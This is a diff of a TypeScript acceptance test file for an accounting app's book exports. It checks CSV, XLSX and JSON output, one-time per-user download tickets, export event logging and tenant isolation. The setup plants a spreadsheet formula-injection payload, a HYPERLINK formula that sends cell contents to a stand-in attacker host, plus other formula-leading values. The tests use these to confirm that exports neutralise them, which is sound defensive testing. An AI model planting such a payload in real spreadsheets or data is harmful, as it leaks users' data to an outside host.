@@ -2,23 +2,24 @@ import { unzipSync, strFromU8 } from 'fflate';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { systemRequest } from '@cifra/ops/system-request';
 import { exportBooks } from '@cifra/exchange/export/export-books';
-import { openFirm, type TestFirm, type TestTenant } from '../periods/firm.ts';
-import { csvRows, eventsOf, exported, fetchFile, must, postSale } from './desk.ts';
+import { openFirm, type TestFirm } from '../worlds/firm/firm.ts';
+import { openClient, type TestClient } from '../worlds/firm/client.ts';
+import { csvRows, fetchFile } from '../worlds/firm/client-files.ts';
 
 /** Exports of a tenant's books through the API and the files endpoint (acceptance I2). */
 
 let firm: TestFirm;
-let tenant: TestTenant;
+let client: TestClient;
 const hostile = '=HYPERLINK("http://evil.example?x="&A1;"free")';
 beforeAll(async () => {
   firm = await openFirm();
-  tenant = await firm.provision({ kind: 'SANDBOX' });
-  await must(firm, tenant, 'createParty', { code: '-7', name: hostile, isCustomer: true, note: '+1\t2' });
-  await must(firm, tenant, 'createAccount', { code: '@SUM', name: '\u0009=1+1', type: 'ASSET' }).catch(() =>
-    must(firm, tenant, 'createAccount', { code: '@SUM', name: '=1+1', type: 'ASSET' }),
-  );
-  await postSale(firm, tenant, { date: '2026-01-15', amount: '12.30', description: hostile });
-  await postSale(firm, tenant, { date: '2026-02-15', amount: '1.00', description: 'Plain, "quoted"' });
+  client = await openClient(firm);
+  await client.accepted('createParty', { code: '-7', name: hostile, isCustomer: true, note: '+1\t2' });
+  await client
+    .accepted('createAccount', { code: '@SUM', name: '\u0009=1+1', type: 'ASSET' })
+    .catch(() => client.accepted('createAccount', { code: '@SUM', name: '=1+1', type: 'ASSET' }));
+  await client.postSale({ date: '2026-01-15', amount: '12.30', description: hostile });
+  await client.postSale({ date: '2026-02-15', amount: '1.00', description: 'Plain, "quoted"' });
 });
 afterAll(() => firm?.close());
 
@@ -39,24 +40,24 @@ const parts = {
 
 describe.each(Object.entries(parts))('%s', (what, range) => {
   test('is exported as CSV, XLSX and JSON with the same rows', async () => {
-    const csv = await exported(firm, tenant, { what, format: 'CSV', ...range });
+    const csv = await client.export({ what, format: 'CSV', ...range });
     expect(csv.status).toBe(200);
     const rows = csvRows(csv.text);
-    const json = await exported(firm, tenant, { what, format: 'JSON', ...range });
+    const json = await client.export({ what, format: 'JSON', ...range });
     const read = JSON.parse(json.text) as { rows: Record<string, unknown>[]; columns: { name: string }[] };
     expect(read.rows.length).toBe(rows.length);
     expect(csv.text.split('\n')[0]).toBe(read.columns.map(({ name }) => name).join(','));
-    const xlsx = await exported(firm, tenant, { what, format: 'XLSX', ...range });
+    const xlsx = await client.export({ what, format: 'XLSX', ...range });
     const sheet = strFromU8(unzipSync(xlsx.bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
     expect(sheet.match(/<row>/g)?.length).toBe(rows.length + 1);
   });
 
   test('I2: no cell of CSV or XLSX begins as a formula, numbers stay numbers', async () => {
-    const csv = await exported(firm, tenant, { what, format: 'CSV', ...range });
+    const csv = await client.export({ what, format: 'CSV', ...range });
     for (const row of csvRows(csv.text))
       for (const cell of Object.values(row))
         expect(/^-?\d+(\.\d+)?$/.test(cell) || !/^[=+\-@\t\r\n]/.test(cell), cell).toBe(true);
-    const xlsx = await exported(firm, tenant, { what, format: 'XLSX', ...range });
+    const xlsx = await client.export({ what, format: 'XLSX', ...range });
     const sheet = strFromU8(unzipSync(xlsx.bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
     expect(sheet).not.toContain('<f>');
     for (const [, text = ''] of sheet.matchAll(/<t xml:space="preserve">([^<]*)<\/t>/g))
@@ -66,54 +67,54 @@ describe.each(Object.entries(parts))('%s', (what, range) => {
 
 describe.each(['SAFT', 'HLEDGER', 'BEANCOUNT'])('%s', (format) => {
   test('holds the journal', async () => {
-    const file = await exported(firm, tenant, { what: 'JOURNAL', format });
+    const file = await client.export({ what: 'JOURNAL', format });
     expect(file.status).toBe(200);
     expect(file.text).toContain('12.30');
   });
 
   test('holds no report', async () => {
-    expect(
-      await firm.do('exportBooks', { what: 'ACCOUNTS', format }, { as: 'senior', tenant: tenant.slug }),
-    ).toMatchObject({ code: 'INPUT_INVALID', field: 'format' });
+    expect(await client.do('exportBooks', { what: 'ACCOUNTS', format })).toMatchObject({
+      code: 'INPUT_INVALID',
+      field: 'format',
+    });
   });
 });
 
 test('hostile texts come back as they were in JSON', async () => {
-  const json = await exported(firm, tenant, { what: 'PARTIES', format: 'JSON' });
+  const json = await client.export({ what: 'PARTIES', format: 'JSON' });
   expect((JSON.parse(json.text) as { rows: unknown[] }).rows).toMatchObject([{ code: '-7', name: hostile }]);
 });
 
-test('a ticket is good once, and for whoever asked', async () => {
-  const ask = () => must(firm, tenant, 'exportBooks', { what: 'ACCOUNTS', format: 'CSV' });
+test('a ticket is good once, and only for the person who requested it', async () => {
+  const ask = () => client.accepted('exportBooks', { what: 'ACCOUNTS', format: 'CSV' });
   const url = String((await ask())['url']);
   expect((await fetchFile(firm, url)).status).toBe(200);
   expect((await fetchFile(firm, url)).status).toBe(404);
   expect((await fetchFile(firm, '/files/nobody')).status).toBe(404);
 });
 
-test('an export is an event before its first byte, and a ticket that was not fetched is none', async () => {
-  const ticket = await must(firm, tenant, 'exportBooks', { what: 'ACCOUNTS', format: 'CSV' });
-  const before = eventsOf(tenant, 'BOOKS_EXPORTED').length;
+test('an export is an event before its first byte, and a ticket that was not fetched is not', async () => {
+  const ticket = await client.accepted('exportBooks', { what: 'ACCOUNTS', format: 'CSV' });
+  const before = client.events('BOOKS_EXPORTED').length;
   const response = await fetch(`${firm.url}${String(ticket['url'])}`);
-  const events = eventsOf(tenant, 'BOOKS_EXPORTED');
+  const events = client.events('BOOKS_EXPORTED');
   expect(events.length).toBe(before + 1);
   expect(events.at(-1)).toMatchObject({ what: 'ACCOUNTS', format: 'CSV', fileName: ticket['fileName'] });
   await response.text();
 });
 
 test("another person's ticket, and one of a tenant for another, are worth nothing", async () => {
-  const other = await firm.provision({ kind: 'SANDBOX' });
-  const ticket = await must(firm, other, 'exportBooks', { what: 'ACCOUNTS', format: 'CSV' });
+  const other = await openClient(firm);
+  const ticket = await other.accepted('exportBooks', { what: 'ACCOUNTS', format: 'CSV' });
   const strange = await firm.fetchAs('junior', String(ticket['url']));
   expect(strange.status).toBe(404);
-  expect(eventsOf(other, 'BOOKS_EXPORTED')).toEqual([]);
-  const own = await exported(firm, other, { what: 'JOURNAL', format: 'CSV' });
+  expect(other.events('BOOKS_EXPORTED')).toEqual([]);
+  const own = await other.export({ what: 'JOURNAL', format: 'CSV' });
   expect(csvRows(own.text)).toEqual([]);
 });
 
-test('dates that a part does not take, or lacks, are named', async () => {
-  const ask = (input: Record<string, unknown>) =>
-    firm.do('exportBooks', { format: 'CSV', ...input }, { as: 'senior', tenant: tenant.slug });
+test('dates that a part does not accept, or lacks, are named', async () => {
+  const ask = (input: Record<string, unknown>) => client.do('exportBooks', { format: 'CSV', ...input });
   expect(await ask({ what: 'TRIAL_BALANCE' })).toMatchObject({ code: 'INPUT_INVALID', field: 'asOf' });
   expect(await ask({ what: 'ACCOUNTS', asOf: '2026-01-01' })).toMatchObject({ field: 'asOf' });
   expect(await ask({ what: 'JOURNAL', from: '2026-02-01', to: '2026-01-01' })).toMatchObject({ field: 'to' });
@@ -123,13 +124,13 @@ test('dates that a part does not take, or lacks, are named', async () => {
 });
 
 test('what is posted while an export is fetched is left out of it, and a reader who goes away stops it', async () => {
-  const own = await firm.provision({ kind: 'SANDBOX' });
-  await postSale(firm, own, { date: '2026-01-15', amount: '1.00', description: 'Before' });
+  const own = await openClient(firm);
+  await own.postSale({ date: '2026-01-15', amount: '1.00', description: 'Before' });
   const begin = async (): Promise<AsyncIterator<string | Uint8Array>> => {
-    const asked = { what: 'JOURNAL', format: 'CSV', from: null, to: null, asOf: null } as const;
+    const input = { what: 'JOURNAL', format: 'CSV', from: null, to: null, asOf: null } as const;
     const made = await exportBooks(
       firm.books,
-      { tenantId: own.id, input: asked, fileName: 'journal.csv', ticketHash: null },
+      { tenantId: own.tenant.id, input: input, fileName: 'journal.csv', ticketHash: null },
       systemRequest('test'),
     );
     if (!made.ok) throw new Error(JSON.stringify(made.refusal));
@@ -137,7 +138,7 @@ test('what is posted while an export is fetched is left out of it, and a reader 
   };
   const pieces = await begin();
   const read = [await pieces.next()];
-  await postSale(firm, own, { date: '2026-01-15', amount: '2.00', description: 'Meanwhile' });
+  await own.postSale({ date: '2026-01-15', amount: '2.00', description: 'Meanwhile' });
   while (read.at(-1)?.done !== true) read.push(await pieces.next());
   const text = read.map(({ value }) => (typeof value === 'string' ? value : '')).join('');
   expect(text).toContain('Before');
